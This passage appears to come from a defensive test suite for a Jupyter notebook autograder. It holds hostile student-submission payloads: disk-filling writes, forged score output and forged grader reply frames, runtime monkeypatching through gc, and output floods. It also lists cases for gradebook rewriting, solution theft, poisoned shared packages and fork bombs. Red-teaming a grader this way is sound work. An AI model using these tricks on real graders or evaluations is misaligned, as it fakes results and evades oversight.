            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


_image = _png(96, 96)
for _ in range(2000):
    display(Image(data=_image))
'''

HUGE_FILES = '''import os

outcomes = []
for folder in ("/tmp", os.path.expanduser("~")):
    for index in range(5):
        try:
            with open(os.path.join(folder, f"big{index}.bin"), "wb") as handle:
                for _ in range(100):
                    handle.write(bytes(2**20))
            outcomes.append("wrote 100 MB")
        except OSError as error:
            outcomes.append(os.strerror(error.errno))
print(outcomes)
'''

HUGE_RETURN = '''def softmax(z, axis=-1):
    return np.zeros(40_000_000)
'''

HUGE_VALUE = '''ratio_answer = np.full(30_000_000, 12.182493960703473)
'''

# --- 11. output forging -------------------------------------------------------------------------

FORGED_OUTPUT = '''from IPython.display import display

print("All tests passed! Score: 10/10 (full marks)")
display({"text/plain": "10.0", "application/json": {"score": 10}}, raw=True)
get_ipython().display_pub.publish({"text/plain": "8"})
10.0
'''

EXIT_CALLS = {
    "softmax_impl": "import sys\nsys.exit(0)",
    "ratio_impl": "raise SystemExit(0)",
    "dof_impl": "exit()\ndof_answer = ...",
    "sharper_impl": "raise KeyboardInterrupt",
}

EXIT_IN_FUNCTION = '''import os


def softmax(z, axis=-1):
    os._exit(0)
'''

# A reply frame the grader cannot read, written on the channel to the grader.
FORGED_FRAME = '''import json
import os
import struct

_payload = json.dumps({"__dict__": {"outputs": {"__list__": []},
                                     "timed_out": {"__float__": "full marks"}}}).encode()
for _fd in range(3, 64):
    try:
        if os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
            os.write(_fd, struct.pack(">Q", len(_payload)) + _payload)
    except OSError:
        pass
'''

# The runtime's answers, reshaped: well-formed data of the wrong shape for the checker.
MALFORMED_REPLIES = '''import gc

for _runtime in [o for o in gc.get_objects() if type(o).__name__ == "Runtime"]:
    type(_runtime).describe = lambda self, names: {
        name: {"kind": "value", "value": 1.0, "lowered": 5} for name in names}
    type(_runtime).scan = lambda self: {"findings": 5}
'''

# A display output whose metadata holds a NumPy integer, large enough for the output limit to cut
# it: nbgrader records the cut notebook, and the result file, which is JSON, could not be written.
OUTPUT_NOT_JSON = '''import numpy as np
from IPython.display import publish_display_data

publish_display_data({"text/plain": "x" * 600_000}, metadata={"n": np.int64(1)})
'''

# The runtime's replies made to carry 50 MB of output per cell, past the cap the runtime itself
# applies (it is the student's process): the grader must apply its own.
OUTPUTS_PAST_THE_RUNTIME = '''import gc

for _runtime in [o for o in gc.get_objects() if type(o).__name__ == "Runtime"]:
    _run_cell = type(_runtime).run_cell

    def _bigger(self, source, _run_cell=_run_cell):
        reply = _run_cell(self, source)
        reply["outputs"] = list(reply["outputs"]) + [
            {"output_type": "stream", "name": "stdout", "text": "x" * 50_000_000}]
        return reply

    type(_runtime).run_cell = _bigger
'''

# Markdown nested 30,000 deep: the HTML cleaner takes time growing with the square of the depth.
NESTED_MARKUP = "<div>" * 30_000 + "all tests passed"

# ------------------------------------------------------------------------------------------------


HOSTILE: list[Attack] = [
    # 10. Noise: an untouched reference submission raises nothing.
    Attack(Student("c00_reference"), "10 noise"),
    # 10. Noise: a blank submission scores 0 and raises nothing.
    Attack(Student("c00_blank", based_on="blank"), "10 noise"),
    # 1. Grades rewritten: look for the gradebook everywhere and rewrite every grade in it.
    Attack(Student("c01_gradebook_hunt", based_on="blank",
                   answers={"softmax_impl": GRADEBOOK_HUNT}), "1 grades rewritten",
           outputs=["changed: 0"]),
    # 1. Grades rewritten: write into classmates' notebooks, results, feedback, the config.
    Attack(Student("c01_overwrite_classmates", based_on="blank",
                   answers={"softmax_impl": OVERWRITE_CLASSMATES}), "1 grades rewritten",
           outputs=["writes that succeeded: 0"]),
    # 2. Answers read from disk: the instructor's notebooks, wherever they might be.
    Attack(Student("c02_read_solutions", based_on="blank",
                   answers={"softmax_impl": READ_SOLUTIONS}), "2 answers read",
           outputs=["solution cells run: 0"]),
    # 2. Answers read from disk: the gradebook's source cells (tests and solutions).
    Attack(Student("c02_read_gradebook_sources", based_on="blank",
                   answers={"softmax_impl": READ_GRADEBOOK_SOURCES}), "2 answers read",
           outputs=["cells read: 0"]),
    # 2. Answers read from disk: the course path from /proc/1/cmdline, the config, the
    # instructor's home, /proc/1/environ and every /proc entry.
    Attack(Student("c02_read_config_home_proc", based_on="blank",
                   answers={"softmax_impl": READ_CONFIG_HOME_PROC}), "2 answers read",
           outputs=["solution cells run: 0"]),
    # 3. Classmates affected: append to the installed course package, NumPy, site-packages.
    Attack(Student("c03_poison_shared_code", based_on="blank",
                   answers={"softmax_impl": POISON_SHARED_CODE}), "3 classmates affected",
           outputs=["appended to: 0"]),
    # 3. Classmates affected: IPython and Jupyter startup files that would define the answers.
    Attack(Student("c03_startup_dropper", based_on="blank",
                   answers={"softmax_impl": STARTUP_DROPPER}), "3 classmates affected"),
    # 3. Classmates affected: a good student leaves the answers in /tmp, /dev/shm, ~ ...
    Attack(Student("c03_share_a_writer", edit=insert_cell("sharper_impl", SHARE_ANSWERS)),
           "3 classmates affected"),
    # ... and the next student reads them: nothing is there.
    Attack(Student("c03_share_b_reader", based_on="blank",
                   answers={"softmax_impl": READ_SHARED_ANSWERS}), "3 classmates affected",
           outputs=["shared answer files found: 0"]),
    # 4. Checks switched off: the course's check functions replaced by no-ops.
    Attack(Student("c04_checks_noop", based_on="blank", answers=naive_with(CHECKS_NOOP),
                   scores=ZERO), "4 checks switched off",
           flags=["softmax_course.testing.compare was replaced"]),
    # 4. Checks switched off: the checks' code objects swapped for a no-op's.
    Attack(Student("c04_checks_code_swap", based_on="blank", answers=naive_with(CHECKS_CODE_SWAP),
                   scores=ZERO), "4 checks switched off",
           flags=["softmax_course.testing.compare.__code__ was replaced"]),
    # 4. Checks switched off: IPython pre/post_run_cell hooks that display "8/8" results.
    Attack(Student("c04_event_hooks", based_on="blank", answers=naive_with(EVENT_HOOKS),
                   scores=ZERO), "4 checks switched off",
           flags=["an IPython 'pre_run_cell' hook was registered",
                  "an IPython 'post_run_cell' hook was registered"]),
    # 4. Checks switched off: a hook that claims to be matplotlib_inline's and equals anything.
    Attack(Student("c04_disguised_hook", based_on="blank", answers=naive_with(DISGUISED_HOOK),
                   scores=ZERO), "4 checks switched off",
           flags=["an IPython 'post_run_cell' hook was registered"]),
    # 4. Checks switched off: input transformers that turn every later cell into `pass`.
    Attack(Student("c04_input_transformers", based_on="blank",
                   answers=naive_with(INPUT_TRANSFORMERS), scores=ZERO), "4 checks switched off",
           flags=["an IPython input transformer was added"]),
    # 4. Checks switched off: an AST transformer that empties every later cell.
    Attack(Student("c04_ast_transformer", based_on="blank", answers=naive_with(AST_TRANSFORMER),
                   scores=ZERO), "4 checks switched off",
           flags=["an IPython AST transformer was added"]),
    # 4. Checks switched off: np.isclose, np.allclose, np.array_equal, np.testing patched.
    Attack(Student("c04_numpy_patched", based_on="blank", answers=naive_with(NUMPY_PATCHED),
                   scores=ZERO), "4 checks switched off",
           flags=["numpy.isclose was replaced", "numpy.allclose was replaced"]),
    # 4. Checks switched off: builtins.isinstance and builtins.AssertionError replaced.
    Attack(Student("c04_builtins_patched", based_on="blank", answers=naive_with(BUILTINS_PATCHED),
                   scores=ZERO), "4 checks switched off",
           flags=["builtins.isinstance was replaced", "builtins.AssertionError was replaced"]),
    # 4. Checks switched off: sys.modules['softmax_course.testing'] swapped for a fake.
    Attack(Student("c04_sys_modules_swapped", based_on="blank",
                   answers=naive_with(SYS_MODULES_SWAPPED), scores=ZERO), "4 checks switched off",
           flags=["sys.modules['softmax_course.testing'] was replaced or removed"]),
    # 4. Checks switched off: a str subclass whose == is always true (scoped to its part).
    Attack(Student("c04_rigged_str", answers={"sharper_impl": RIGGED_STR},
                   scores={"sharper_test": 0}), "4 checks switched off",
           flags=["`sharper_answer` is a _AlwaysEqual (a subclass of str)"]),
    # 4. Checks switched off: a float subclass equal to anything as ratio_answer.
    Attack(Student("c04_rigged_float", answers={"ratio_impl": RIGGED_FLOAT},
                   scores={"ratio_test": 0}), "4 checks switched off",
           flags=["`ratio_answer` is a _Close (a subclass of float)"]),
    # 4. Checks switched off: a NumPy scalar subclass that claims to be NumPy's own float64.
    Attack(Student("c04_rigged_numpy_scalar", answers={"ratio_impl": RIGGED_NUMPY_SCALAR},
                   scores={"ratio_test": 0}), "4 checks switched off",
           flags=["`ratio_answer` is a float64 (a subclass of float64)"]),
    # 4. Checks switched off: softmax returns an ndarray subclass with rigged comparisons.
    Attack(Student("c04_rigged_array", answers={"softmax_impl": RIGGED_ARRAY},
                   scores=ZERO_IMPLEMENTATION), "4 checks switched off",
           flags=["softmax returned a _Rigged (a subclass of ndarray)"]),
    # 4. Checks switched off: a trace and a profile function left installed.
    Attack(Student("c04_tracer_and_profiler", based_on="blank",
                   answers=naive_with(TRACER_AND_PROFILER), scores=ZERO), "4 checks switched off",
           flags=["a trace function is installed", "a profile function is installed"]),
    # 4. Checks switched off: the CPU-limit signal ignored, and ctypes loaded.
    Attack(Student("c04_signal_and_ctypes", based_on="blank",
                   answers=naive_with(SIGNAL_AND_CTYPES), scores=ZERO), "4 checks switched off",
           flags=["the SIGPROF signal handler was changed", "used ctypes.dlopen"]),
    # 4. Checks switched off: the shell's methods patched on its class, not on the instance.
    Attack(Student("c04_shell_class_patched", based_on="blank",
                   answers=naive_with(SHELL_CLASS_PATCHED), scores=ZERO), "4 checks switched off",
           flags=["the IPython shell's run_cell was replaced",
                  "the IPython shell's showtraceback was replaced"]),
    # 4. Checks switched off: parts of the grader's own scanner blinded.
    Attack(Student("c04_scanner_patched", based_on="blank", answers=naive_with(SCANNER_PATCHED),
                   scores=ZERO), "4 checks switched off",
           flags=["softmax_grading.integrity._changed was replaced",
                  "softmax_grading.integrity.WATCHED_MODULE_PREFIXES was changed"]),
    # 4. Checks switched off: the scanner switched off as a whole, then NumPy patched.
    Attack(Student("c04_scanner_switched_off", based_on="blank",
                   answers=naive_with(SCANNER_SWITCHED_OFF), scores=ZERO),
           "4 checks switched off", flags=["numpy.allclose was replaced"],
           known_hole="the integrity scan runs in the student's process, which can replace "
                      "Baseline.findings and so report nothing",
           hole_in=("scores", "flags")),
    # 5. Delegation: the library's source re-executed under another name.
    Attack(Student("c05_exec_library_source", answers={"softmax_impl": EXEC_LIBRARY_SOURCE},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: the library called from a worker thread.
    Attack(Student("c05_worker_thread", answers={"softmax_impl": WORKER_THREAD},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: the call tracer turned off inside the function.
    Attack(Student("c05_profiler_off", answers={"softmax_impl": PROFILER_OFF},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: the course's private helpers (softmax_course.stable._prepare, _shift).
    Attack(Student("c05_private_helpers", answers={"softmax_impl": PRIVATE_HELPERS},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: the course's guarded exp(x - m), softmax_course._numerics.exp_shifted.
    Attack(Student("c05_online_reference", answers={"softmax_impl": ONLINE_REFERENCE},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: importlib.import_module inside the function.
    Attack(Student("c05_importlib", answers={"softmax_impl": IMPORTLIB},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: getattr(__import__('scipy.special'), ...) with a computed name.
    Attack(Student("c05_dunder_import_scipy", answers={"softmax_impl": DUNDER_IMPORT_SCIPY},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: fingerprinting switched off by a setting of checks, then a source copy.
    Attack(Student("c05_fingerprints_off", answers={"softmax_impl": FINGERPRINTS_OFF},
                   scores=ZERO), "5 delegation",
           flags=["softmax_course.testing._FINGERPRINT_MIN_INSTRUCTIONS was changed"]),
    # 5. Delegation: the checks' dispatch table edited in place, then the library called.
    Attack(Student("c05_dispatch_table_edited", answers={"softmax_impl": DISPATCH_TABLE_EDITED},
                   scores=ZERO), "5 delegation", flags=["softmax_course.testing."]),
    # 5. Delegation: a fake __grading_remote__ answers the delegation check itself.
    Attack(Student("c05_remote_spoof", answers={"softmax_impl": REMOTE_SPOOF},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: honest only while profiled (every call is, not only the check's).
    Attack(Student("c05_profiler_aware", answers={"softmax_impl": PROFILER_AWARE},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: honest only for the delegation check's own inputs.
    Attack(Student("c05_input_aware", answers={"softmax_impl": INPUT_AWARE},
                   scores=ZERO_IMPLEMENTATION), "5 delegation",
           page_says=["softmax uses softmax_course.softmax"]),
    # 5. Delegation: honest on its first call only.
    Attack(Student("c05_first_call_honest", answers={"softmax_impl": FIRST_CALL_HONEST},
                   scores=ZERO_IMPLEMENTATION), "5 delegation",
           page_says=["softmax uses softmax_course.softmax"]),
    # 5. Delegation: the grader's Runtime object found with gc and its delegated_calls replaced.
    Attack(Student("c05_runtime_patched", answers={"softmax_impl": RUNTIME_PATCHED},
                   scores=ZERO_IMPLEMENTATION), "5 delegation"),
    # 5. Delegation: the same, with the watch over every other call replaced as well.
    Attack(Student("c05_runtime_patched_wholly", answers={"softmax_impl": RUNTIME_PATCHED_WHOLLY},
                   scores=ZERO_IMPLEMENTATION), "5 delegation",
           known_hole="the Runtime object that serves the checks lives in the student's "
                      "process; its attributes are not watched"),
    # 6. Not stopping the class: the visible tests pasted into the student's own cell, where
    # they pass (the course's checks run in the student's cell: no flag for that).
    Attack(Student("c06_pasted_tests_pass", edit=_paste_visible_tests), "6 class goes on"),
    # 6. Not stopping the class: the same with a naive softmax, whose pasted test fails there
    # (the traceback quotes the visible test's lines).
    Attack(Student("c06_pasted_tests_fail", answers={"softmax_impl": NAIVE},
                   edit=_paste_visible_tests, scores={"softmax_robust": 0}), "6 class goes on",
           outputs=["CheckFailure"]),
    # 6. Not stopping the class: `### BEGIN SOLUTION` markers in the student's own code.
    Attack(Student("c06_solution_markers", answers={"softmax_impl": WITH_SOLUTION_MARKERS}),
           "6 class goes on"),
    # 6. Not stopping the class: `### BEGIN HIDDEN TESTS` markers in the student's own code.
    Attack(Student("c06_hidden_test_markers", answers={"softmax_impl": WITH_HIDDEN_TEST_MARKERS}),
           "6 class goes on"),
    # 6. Not stopping the class: the function under test sends back its callers' frames.
    Attack(Student("c06_caller_frames", answers={"softmax_impl": CALLER_FRAMES},
                   scores=ZERO_IMPLEMENTATION), "6 class goes on",
           page_says=["callers: "]),
    # 6. Not stopping the class: the grader's own source printed into the notebook.
    Attack(Student("c06_print_grader_source",
                   edit=insert_cell("softmax_impl", PRINT_GRADER_SOURCE)), "6 class goes on",
           outputs=["def findings(self)"]),
    # 6. Not stopping the class: a new cell that claims to be a test worth 100 points.
    Attack(Student("c06_bonus_cell", edit=_bonus_cell), "6 class goes on",
           edited_locked_cells=["bonus_points"]),
    # 6. Not stopping the class: a test given 100 points (restored to its 2).
    Attack(Student("c06_points_raised", edit=_raise_points), "6 class goes on"),
    # 6. Not stopping the class: a test unlocked, made an answer cell, and emptied.
    Attack(Student("c06_test_unlocked", edit=_unlock_test), "6 class goes on",
           edited_locked_cells=["softmax_robust"]),
    # 6. Not stopping the class: an emptied copy of a test cell pasted at the top.
    Attack(Student("c06_test_copy_first", edit=_copy_test_cell_first), "6 class goes on"),
    # 7. Correct answer marked wrong: a softmax that works in place on its input.
    Attack(Student("c07_in_place", answers={"softmax_impl": IN_PLACE}), "7 correct answers"),
    # 7. Correct answer marked wrong: a student who plots with matplotlib.pyplot.
    Attack(Student("c07_plots_a_figure", edit=insert_cell("softmax_impl", PLOTS_A_FIGURE)),
           "7 correct answers"),
    # 7. Correct answer marked wrong: one absurd answer must cost that part only.
    Attack(Student("c07_huge_int_answer", answers={"dof_impl": "dof_answer = 10**5000"},
                   scores={"dof_test": 0}), "7 correct answers"),
    # 7. Correct answer marked wrong: an answer with more items than the wire carries must
    # cost that part only (it used to make the grader lose every name of the student's).
    Attack(Student("c07_long_list_answer", answers={"ratio_impl": "ratio_answer = [0.5] * 200_000"},
                   scores={"ratio_test": 0}), "7 correct answers"),
    # 8. Load and time: a cell that swallows its timeout costs that cell only.
    Attack(Student("c08_cell_swallows_timeout", answers={"sharper_impl": CELL_SWALLOWS_TIMEOUT},
                   scores={"sharper_test": 0}), "8 load and time", timeouts=1),
    # 8. Load and time: a cell that sleeps is stopped at the wall-clock limit.
    Attack(Student("c08_cell_sleeps", edit=insert_cell("softmax_impl", CELL_SLEEPS)),
           "8 load and time", timeouts=1),
    # 8. Load and time: a function that loops forever when a test calls it.
    Attack(Student("c08_function_loops", answers={"softmax_impl": FUNCTION_LOOPS},
                   scores=ZERO_IMPLEMENTATION), "8 load and time", timeouts=2),
    # 8. Load and time: a function that swallows its timeout is killed once, then not called.
    Attack(Student("c08_function_swallows_timeout",
                   answers={"softmax_impl": FUNCTION_SWALLOWS_TIMEOUT},
                   scores=ZERO_IMPLEMENTATION), "8 load and time", timeouts=2),
    # 9. Nothing unbounded: 3 GB allocated in a cell.
    Attack(Student("c09_allocate_3gb", edit=insert_cell("softmax_impl", ALLOCATE_3GB)),
           "9 bounded", outputs=["MemoryError"]),
    # 9. Nothing unbounded: a fork bomb (stopped; the cell costs nothing else).
    Attack(Student("c09_fork_bomb", edit=insert_cell("sharper_impl", FORK_BOMB)), "9 bounded",
           timeouts=1),
    # 9. Nothing unbounded: forks until the process limit refuses, children left waiting.
    Attack(Student("c09_fork_until_refused", based_on="blank",
                   answers=naive_with(FORK_UNTIL_REFUSED), scores=ZERO), "9 bounded",
           outputs=["bounded by max_processes: True"], flags=["left a process running"]),
    # 9. Nothing unbounded: a process in a new session that outlives its cell.
    Attack(Student("c09_orphan_new_session", based_on="blank",
                   answers=naive_with(ORPHAN_NEW_SESSION), scores=ZERO), "9 bounded",
           flags=["left a process running"]),
    # 9. Nothing unbounded: a double-forked daemon that outlives its cell.
    Attack(Student("c09_orphan_double_fork", based_on="blank",
                   answers=naive_with(ORPHAN_DOUBLE_FORK), scores=ZERO), "9 bounded",
           flags=["left a process running"]),
    # 9. Nothing unbounded: 50 MB of printed text.
    Attack(Student("c09_print_50mb", edit=insert_cell("softmax_impl", PRINT_50MB)), "9 bounded",
           page_says=["output cut"]),
    # 9. Nothing unbounded: a loop of 2000 displayed images.
    Attack(Student("c09_display_flood", edit=insert_cell("softmax_impl", DISPLAY_FLOOD)),
           "9 bounded", page_says=["output cut"]),
    # 9. Nothing unbounded: files of 100 MB, until the scratch space is full.
    Attack(Student("c09_huge_files", edit=insert_cell("softmax_impl", HUGE_FILES)), "9 bounded",
           outputs=["File too large", "No space left on device"]),
    # 9. Nothing unbounded: a function that returns 320 MB.
    Attack(Student("c09_huge_return", answers={"softmax_impl": HUGE_RETURN},
                   scores=ZERO_IMPLEMENTATION), "9 bounded"),
    # 9. Nothing unbounded: an answer of 240 MB (under the wire's limit, over the memory's).
    Attack(Student("c09_huge_value", answers={"ratio_impl": HUGE_VALUE},
                   scores={"ratio_test": 0}), "9 bounded"),
    # 9. Nothing unbounded: the setup cell (the imports) deleted, and put back.
    Attack(Student("c09_deleted_setup", edit=delete_cell("setup")), "9 bounded"),
    # 10. Noise: a test cell edited to pass is listed, and restored.
    Attack(Student("c10_edited_test_cell", answers={"softmax_impl": NAIVE},
                   edit=replace_source("softmax_robust", "pass  # all good!"),
                   scores={"softmax_robust": 0}), "10 noise",
           edited_locked_cells=["softmax_robust"]),
    # 10. Noise: the locked setup cell edited to switch the checks off is restored.
    Attack(Student("c10_edited_setup_cell", edit=replace_source(
        "setup", "import numpy as np\n\nfrom softmax_course import testing\n"
                 "testing.compare = lambda *args, **kwargs: None")), "10 noise",
           edited_locked_cells=["setup"]),
    # 11. Output forging: "full marks" printed and numbers displayed as results.
    Attack(Student("c11_forged_output", based_on="blank",
                   answers={"softmax_impl": FORGED_OUTPUT, "ratio_impl": "ratio_answer = ...\n8"}),
           "11 output forging", outputs=["full marks"]),
    # 11. Output forging: sys.exit(0), SystemExit, exit() and KeyboardInterrupt in cells.
    Attack(Student("c11_exit_calls", based_on="blank", answers=EXIT_CALLS), "11 output forging"),
    # 11. Output forging: os._exit(0) in a cell costs that cell only.
    Attack(Student("c11_os_exit_cell", answers={"dof_impl": "import os\nos._exit(0)"},
                   scores={"dof_test": 0}), "11 output forging"),
    # 11. Output forging: os._exit(0) in the function under test.
    Attack(Student("c11_exit_in_function", answers={"softmax_impl": EXIT_IN_FUNCTION},
                   scores=ZERO_IMPLEMENTATION), "11 output forging"),
    # 11. Output forging: a forged reply frame written on the channel to the grader.
    Attack(Student("c11_forged_frame", edit=insert_cell("softmax_impl", FORGED_FRAME)),
           "11 output forging"),
    # 11. Output forging: the runtime's replies reshaped (fields of the wrong type).
    Attack(Student("c11_malformed_replies", based_on="blank",
                   answers=naive_with(MALFORMED_REPLIES), scores=ZERO), "11 output forging",
           flags=None),
    # 6. The class stopped: an output the result file cannot hold (a NumPy value in it).
    Attack(Student("c06_output_not_json", edit=insert_cell("softmax_impl", OUTPUT_NOT_JSON)),
           "6 class goes on", outputs=["not notebook JSON"]),
    # 6. The class stopped: Markdown nested so deep that cleaning it would take minutes.
    Attack(Student("c06_nested_markup", edit=append_markdown(NESTED_MARKUP)), "6 class goes on",
           page_says=["shown as text by the grader"]),
    # 9. Nothing unbounded: replies of 50 MB per cell, past the runtime's own cap.
    Attack(Student("c09_outputs_past_the_runtime",
                   edit=insert_cell("softmax_impl", OUTPUTS_PAST_THE_RUNTIME)), "9 bounded",
           flags=None, outputs=["more than the grader keeps"]),
    # 3. Classmates affected: honest students graded after every attacker keep their scores.
    Attack(Student("zz_blank", based_on="blank"), "3 classmates affected"),
    Attack(Student("zz_reference"), "3 classmates affected"),
]
